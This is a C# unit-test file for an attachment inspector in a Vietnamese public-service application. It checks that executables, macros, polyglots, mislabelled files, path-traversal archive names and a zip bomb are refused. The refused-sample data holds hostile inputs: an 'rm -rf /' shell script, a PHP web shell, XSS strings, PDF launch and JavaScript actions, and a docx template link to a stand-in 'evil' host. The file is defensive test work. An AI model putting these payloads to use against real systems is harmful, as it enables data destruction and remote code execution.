using System.IO.Compression;
using System.Text;
using MotCua.Application.Attachments;
using MotCua.Domain;
using static MotCua.Application.Tests.Attachments.SomeFiles;

namespace MotCua.Application.Tests.Attachments;

public sealed class FileInspectionTests
{
    public static TheoryData<string, byte[], FileKind> WhatADossierTakes() => new()
    {
        { "to-khai.pdf", Pdf, FileKind.Pdf },
        { "TO-KHAI.PDF", Pdf, FileKind.Pdf },
        { "Đơn đề nghị v1.2.pdf", Pdf, FileKind.Pdf },
        { "cmnd-mat-truoc.jpg", Jpeg, FileKind.Jpeg },
        { "cmnd.jpeg", [.. Jpeg, .. new byte[100]], FileKind.Jpeg },
        { "ban-do.png", Png, FileKind.Png },
        { "quyet-dinh.tif", Tiff, FileKind.Tiff },
        { "quyet-dinh.tiff", TiffBig, FileKind.Tiff },
        { "don.docx", Docx, FileKind.Docx },
        { "danh-sach.xlsx", Xlsx, FileKind.Xlsx },
        { "don.odt", Odt, FileKind.Odt },
        { "ghi-chu.txt", Text, FileKind.Text },
        { "ghi-chu.txt", [0xEF, 0xBB, 0xBF, .. Text], FileKind.Text },
    };

    [Theory, MemberData(nameof(WhatADossierTakes))]
    public void A_file_of_a_known_kind_under_a_true_name_is_taken(string name, byte[] content, FileKind kind) =>
        Assert.Equal(kind, Inspect(name, content).Value.Kind);

    public static TheoryData<string, byte[], string> WhatItRefuses() => new()
    {
        { "trong.pdf", [], "file.empty" },

        // Programs and scripts, under whatever name.
        { "to-khai.pdf", Exe, "file.executable" },
        { "to-khai.txt", Elf, "file.executable" },
        { "to-khai.pdf", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52], "file.executable" },
        { "to-khai.pdf", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0], "file.executable" },
        { "chay.txt", Utf8("#!/bin/sh\nrm -rf /\n"), "file.executable" },
        { "trang.txt", Utf8("<!DOCTYPE html><html></html>"), "file.web-page" },
        { "trang.txt", Utf8("\n\n  <HTML><body onload=alert(1)>"), "file.web-page" },
        { "trang.txt", Utf8("Kính gửi <script>alert(1)</script>"), "file.web-page" },
        { "trang.txt", Utf8(new string('a', 64 * 1024 - 4) + "<script>"), "file.web-page" },
        { "anh.png", Utf8("<svg xmlns='http://www.w3.org/2000/svg'/>"), "file.web-page" },
        { "anh.jpg", Utf8("<?xml version='1.0'?><svg/>"), "file.web-page" },
        { "ma.txt", Utf8("<?php system($_GET['c']);"), "file.web-page" },

        // The name says another kind.
        { "to-khai.docx", Pdf, "file.ending-lies" },
        { "to-khai.jpg", Pdf, "file.ending-lies" },
        { "to-khai", Pdf, "file.ending-lies" },
        { "anh.jpg", Png, "file.ending-lies" },
        { "lenh.bat.txt.pdf", Text, "file.ending-lies" },
        { "bang.docx", Xlsx, "file.ending-lies" },
        { "bang.csv", Text, "file.ending-lies" },

        // Macros and parts that run.
        { "don.docx", DocxWith("word/vbaProject.bin"), "file.runs-something" },
        { "don.docx", DocxWith("word/embeddings/oleObject1.bin"), "file.runs-something" },
        { "don.docx", DocxWith("word/activeX/activeX1.xml"), "file.runs-something" },
        { "don.docx", DocxWith("word/media/setup.exe"), "file.runs-something" },
        { "don.docx", DocxWith("word/_rels/settings.xml.rels", "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/a.dotm\" TargetMode=\"External\"/>"), "file.runs-something" },
        { "bang.xlsx", Zip(("[Content_Types].xml", SheetTypes), ("xl/macrosheets/sheet1.xml", "")), "file.runs-something" },
        { "don.odt", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("Basic/Standard/Module1.xml", "")), "file.runs-something" },
        { "don.docx", Zip(("[Content_Types].xml", "<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")), "file.unknown-kind" },
        { "to-khai.pdf", PdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "file.runs-something" },
        { "to-khai.pdf", PdfWith("/AA << /O << /S /J#61vaScript >> >>"), "file.runs-something" },
        { "to-khai.pdf", PdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>"), "file.runs-something" },
        { "to-khai.pdf", PdfWith("/Names << /EmbeddedFiles 3 0 R >>"), "file.runs-something" },

        // Two kinds in one file.
        { "to-khai.pdf", [.. Pdf, .. Zip(("a.txt", "x")), .. Latin("%%EOF")], "file.two-kinds" },
        { "to-khai.pdf", [.. Pdf[..^6], .. Zip(("%%EOF", "x"))], "file.two-kinds" },
        { "anh.jpg", [.. Jpeg, .. Zip(("a.docx", "x"))], "file.two-kinds" },
        { "anh.tif", [.. Tiff, .. Zip(("a.docx", "x"))], "file.two-kinds" },
        { "anh.png", [.. Png, .. Zip(("a.docx", "x"))], "file.damaged" },

        // Broken ones.
        { "to-khai.pdf", Latin("%PDF-1.7\nnothing more"), "file.damaged" },
        { "anh.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 4, 0, 0, .. "<script>"u8], "file.damaged" },
        { "anh.jpg", Jpeg[..20], "file.damaged" },
        { "anh.png", Png[..^4], "file.damaged" },
        { "anh.tif", [.. "II*\0"u8, 0xFF, 0xFF, 0, 0], "file.damaged" },
        { "anh.tif", [.. "II*\0"u8], "file.damaged" },

        // Unknown ones.
        { "don.doc", OldWord, "file.old-office" },
        { "don.docx", OldWord, "file.old-office" },
        { "luu-tru.zip", Zip(("a.txt", "x")), "file.unknown-kind" },
        { "don.docx", Zip(("a.txt", "x")), "file.unknown-kind" },
        { "don.docx", Docx[..40], "file.unknown-kind" },
        { "phim.mp4", [0, 0, 0, 24, .. "ftypmp42"u8], "file.unknown-kind" },
        { "anh.gif", [.. "GIF89a"u8, 1, 0, 1, 0], "file.unknown-kind" },
        { "luu-tru.rar", [.. "Rar!"u8, 0x1A, 7, 0], "file.unknown-kind" },
        { "ghi-chu.txt", Encoding.Unicode.GetBytes("Kính gửi"), "file.unknown-kind" },
        { "ghi-chu.txt", [0xC3, 0x28, 0x41], "file.unknown-kind" },
        { "ghi-chu.txt", [.. Text, 0], "file.unknown-kind" },
        { "to-khai.pdf", [.. "\n"u8, .. Pdf], "file.ending-lies" },
    };

    [Theory, MemberData(nameof(WhatItRefuses))]
    public void A_file_that_runs_lies_or_cannot_be_read_is_refused_and_told_why(string name, byte[] content, string code)
    {
        var outcome = Inspect(name, content);
        Assert.Equal(code, outcome.Refusals.SingleOrDefault()?.Code);
        Assert.Equal("File", outcome.Refusal.Field);
    }

    public static TheoryData<string> PartsOfABomb() => ["../../etc/passwd", "/etc/passwd", "word\\..\\x", "C:x", "a\u0001b", new string('n', 300)];

    [Theory, MemberData(nameof(PartsOfABomb))]
    public void An_archive_with_names_that_leave_it_is_refused(string part) => Assert.Equal("file.unknown-kind", Inspect("don.docx", DocxWith(part)).Refusal.Code);

    [Fact]
    public void An_archive_with_the_same_name_twice_is_refused() =>
        Assert.Equal("file.unknown-kind", Inspect("don.docx", DocxWith("WORD/document.xml")).Refusal.Code);

    [Fact]
    public void An_archive_of_very_many_names_is_refused() =>
        Assert.Equal("file.unknown-kind", Inspect("don.docx", Zip([("[Content_Types].xml", WordTypes), .. Enumerable.Range(0, 5_001).Select(i => ($"p{i}", ""))])).Refusal.Code);

    [Fact]
    public void A_small_file_that_unpacks_into_a_mountain_is_refused_without_being_unpacked()
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var types = archive.CreateEntry("[Content_Types].xml").Open())
            {
                types.Write(Encoding.UTF8.GetBytes(WordTypes));
            }

            using var mountain = archive.CreateEntry("word/document.xml", CompressionLevel.Fastest).Open();
            var megabyte = new byte[1024 * 1024];
            for (var i = 0; i < 401; i++)
            {
                mountain.Write(megabyte);
            }
        }

        Assert.Equal("file.unknown-kind", Inspect("don.docx", bytes.ToArray()).Refusal.Code);
    }

    private static Outcome<FileKindFound> Inspect(string name, byte[] content)
    {
        using var stream = new MemoryStream(content);
        return FileInspection.Inspect(stream, name);
    }
}
